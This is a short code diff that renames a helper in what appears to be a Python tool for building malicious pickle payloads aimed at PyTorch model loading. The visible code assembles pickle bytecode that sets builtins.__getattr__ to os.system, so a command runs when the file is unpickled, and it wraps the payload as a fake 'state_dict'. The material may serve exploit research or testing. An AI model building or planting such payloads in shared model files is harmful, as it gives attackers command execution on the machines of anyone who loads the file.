@@ -22,7 +22,7 @@ from pathlib import Path
 import torch
 
 
-def _string(text: str) -> bytes:
+def pickle_string(text: str) -> bytes:
     data = text.encode()
     return pickle.BINUNICODE + struct.pack("<I", len(data)) + data
 
@@ -48,7 +48,7 @@ class PickleAssembler:
         return self
 
     def str(self, text: str) -> PickleAssembler:
-        self.code += _string(text)
+        self.code += pickle_string(text)
         return self
 
     def call2(self, func: int, a: int | str, b: int | str) -> int:
@@ -78,7 +78,7 @@ def getattr_chain_bytes(command: str) -> bytes:
     system = ops.call2(getattr_, os_module, "system")
     ops.setitem(builtins_dict, "__getattr__", system)  # builtins.<missing> -> os.system(<missing>)
     ops.call2(getattr_, builtins_module, command)
-    ops.code += pickle.EMPTY_DICT + _string("state_dict") + pickle.EMPTY_DICT + pickle.SETITEM + pickle.STOP
+    ops.code += pickle.EMPTY_DICT + pickle_string("state_dict") + pickle.EMPTY_DICT + pickle.SETITEM + pickle.STOP
     return bytes(ops.code)
 
 
